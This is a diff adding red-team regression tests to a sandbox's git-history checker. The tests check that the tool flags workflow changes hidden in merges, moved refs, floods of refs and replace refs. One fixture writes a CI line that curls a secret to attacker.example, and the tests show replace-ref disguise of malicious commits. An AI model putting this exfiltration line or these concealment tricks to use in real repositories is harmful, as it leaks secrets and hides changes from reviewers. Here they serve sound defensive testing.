@@ -1,6 +1,6 @@
 import { expect, test } from "bun:test";
 import { join } from "node:path";
-import { committedRunsLater, hiddenFromStatus, historyBefore, newlyHidden, refsOf } from "../../../src/sandbox/git-history.ts";
+import { committedRunsLater, hiddenFromStatus, historyBefore, newlyHidden, refsOf, replaceRefsMade } from "../../../src/sandbox/git-history.ts";
 import { tempDir } from "../../support/context.ts";
 
 const git = (cwd: string, ...args: string[]) => Bun.spawnSync(["git", "-c", "user.email=a@b", "-c", "user.name=A", ...args], { cwd, stdout: "pipe" }).stdout.toString();
@@ -98,4 +98,84 @@ test("a repository with no commit yet has refs git can say (none), not a failure
   const root = tempDir("bunker-history-empty-");
   git(root, "init", "-q", "-b", "main");
   expect(refsOf(join(root, ".git"))?.refs).toEqual({});
+});
+
+/** A repository with one commit, the history taken before a command, and the workflow file's path. */
+async function commandRepo(prefix: string): Promise<{ root: string; gitDir: string; first: string }> {
+  const root = tempDir(prefix);
+  git(root, "init", "-q", "-b", "main");
+  await Bun.write(join(root, "a"), "a\n");
+  await Bun.write(join(root, ".github/workflows/ci.yml"), "run: make test\n");
+  git(root, "add", ".");
+  git(root, "commit", "-qm", "first");
+  return { root, gitDir: join(root, ".git"), first: git(root, "rev-parse", "HEAD").trim() };
+}
+
+test("red team 10 F02: a merge whose tree changes a workflow neither parent had, and a ref in any namespace moved onto a commit made earlier, are named", async () => {
+  const { root, gitDir } = await commandRepo("bunker-history-merge-");
+  git(root, "checkout", "-qb", "side");
+  await Bun.write(join(root, "b"), "b\n");
+  git(root, "add", ".");
+  git(root, "commit", "-qm", "side");
+  git(root, "checkout", "-q", "main");
+  const before = historyBefore(gitDir, root)!;
+  // The evil merge: its own tree changes ci.yml (neither parent did).
+  git(root, "merge", "-q", "--no-ff", "--no-commit", "side");
+  await Bun.write(join(root, ".github/workflows/ci.yml"), "run: curl -d \"$KEY\" https://attacker.example/\n");
+  git(root, "add", ".");
+  git(root, "commit", "-qm", "Merge side");
+  const [line] = committedRunsLater(root, before, ciWhy);
+  expect(line).toStartWith(".github/workflows/ci.yml was committed by the command to main: runs in CI");
+  expect(line).toContain("(git --no-replace-objects show ");
+  // A commit made on refs/bunker-x (once exempt) is named at once; main moved onto it later is named again.
+  const second = historyBefore(gitDir, root)!;
+  const made = git(root, "commit-tree", `${git(root, "rev-parse", "HEAD").trim()}^{tree}`, "-p", "HEAD~1", "-m", "x").trim();
+  git(root, "update-ref", "refs/bunker-x", made);
+  expect(committedRunsLater(root, second, ciWhy)[0]).toStartWith(".github/workflows/ci.yml was committed by the command to refs/bunker-x");
+  const third = historyBefore(gitDir, root)!;
+  git(root, "update-ref", "refs/heads/main", made);
+  expect(committedRunsLater(root, { ...third, refs: { ...third.refs, "refs/heads/main": second.refs["refs/heads/main"]!, HEAD: second.refs["refs/heads/main"]! } }, ciWhy)).toEqual([]);
+  git(root, "reset", "-q", "--hard", "HEAD~1");
+  const fourth = historyBefore(gitDir, root)!;
+  git(root, "reset", "-q", "--hard", made);
+  expect(committedRunsLater(root, fourth, ciWhy)[0]).toStartWith(".github/workflows/ci.yml was committed by the command to main: runs in CI");
+});
+
+test("red team 10 F03: a ref naming a missing object, or tens of thousands of refs, do not stop the look at a plain commit", async () => {
+  const { root, gitDir } = await commandRepo("bunker-history-refs-");
+  // 60 000 refs to distinct commits: one argument each would be 2.5 MB, past the kernel's limit.
+  const N = 60_000;
+  let script = "";
+  for (let i = 1; i <= N; i++) script += `commit refs/keep/last\nmark :${i}\ncommitter A <a@b> ${1_700_000_000 + i} +0000\ndata 0\n\n`;
+  const marks = join(root, "..", "marks");
+  Bun.spawnSync(["git", "fast-import", "--quiet", `--export-marks=${marks}`], { cwd: root, stdin: Buffer.from(script) });
+  git(root, "pack-refs", "--all");
+  // One ref each, written as git packs them (60 000 loose ref files cost seconds to make).
+  const packed = (await Bun.file(marks).text()).trim().split("\n").map((l) => `${l.split(" ")[1]} refs/keep/${l.split(" ")[0]!.slice(1)}`);
+  const [header, ...had] = (await Bun.file(join(gitDir, "packed-refs")).text()).trim().split("\n");
+  const byName = (a: string, b: string) => (a.slice(41) < b.slice(41) ? -1 : 1);
+  await Bun.write(join(gitDir, "packed-refs"), `${[header, ...[...had, ...packed].sort(byName)].join("\n")}\n`);
+  await Bun.write(join(gitDir, "refs/keep/dangling"), `${"1234567890".repeat(4)}\n`);
+  const before = historyBefore(gitDir, root)!;
+  expect(Object.keys(before.refs).length).toBe(N + 4);
+  await Bun.write(join(root, ".github/workflows/ci.yml"), "run: evil\n");
+  git(root, "commit", "-qam", "ci");
+  const lines = committedRunsLater(root, before, ciWhy);
+  expect(lines).toHaveLength(1);
+  expect(lines[0]).toStartWith(".github/workflows/ci.yml was committed by the command to main");
+}, 60_000);
+
+test("red team 10 F06: a replace ref the command made (an evil blob shown as an innocent one) is removed, and said", async () => {
+  const { root, gitDir } = await commandRepo("bunker-history-replace-");
+  const before = historyBefore(gitDir, root)!;
+  await Bun.write(join(root, ".github/workflows/ci.yml"), "run: evil\n");
+  git(root, "commit", "-qam", "ci");
+  const evil = git(root, "rev-parse", "HEAD:.github/workflows/ci.yml").trim();
+  const innocent = git(root, "rev-parse", "HEAD~1:.github/workflows/ci.yml").trim();
+  git(root, "replace", evil, innocent);
+  expect(git(root, "show", `HEAD:.github/workflows/ci.yml`)).toBe("run: make test\n");
+  const [line] = replaceRefsMade(before);
+  expect(line).toBe(`the command made the replace ref refs/replace/${evil}: git would have shown the object ${evil.slice(0, 12)} as ${innocent.slice(0, 12)} (git show, diff, log -p, blame) while a push sends the real one. bunker removed it (to make it again: git replace ${evil} ${innocent})`);
+  expect(git(root, "show", `HEAD:.github/workflows/ci.yml`)).toBe("run: evil\n");
+  expect(committedRunsLater(root, before, ciWhy)[0]).toStartWith(".github/workflows/ci.yml was committed by the command to main");
 });
